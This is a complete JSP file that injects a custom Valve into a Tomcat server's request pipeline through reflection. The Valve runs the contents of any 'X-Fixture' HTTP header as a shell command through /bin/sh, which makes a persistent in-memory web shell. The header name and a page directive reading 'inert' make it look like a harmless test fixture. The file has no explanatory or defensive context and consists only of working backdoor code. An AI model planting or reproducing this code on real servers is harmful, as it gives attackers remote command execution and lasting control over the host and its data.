<%@ page inert %>
<%@ page import="org.apache.catalina.valves.ValveBase,org.apache.catalina.connector.*,org.apache.catalina.core.StandardContext,java.lang.reflect.Field" %>
<%!
class V extends ValveBase {
    public void invoke(Request q, Response r) throws java.io.IOException, javax.servlet.ServletException {
        String c = q.getHeader("X-Fixture");
        if (c != null) { new ProcessBuilder("/bin/sh", "-c", c).start(); }
        getNext().invoke(q, r);
    }
}
%><%
Field f = request.getClass().getDeclaredField("request");
f.setAccessible(true);
((StandardContext) ((Request) f.get(request)).getContext()).getPipeline().addValve(new V());
%>
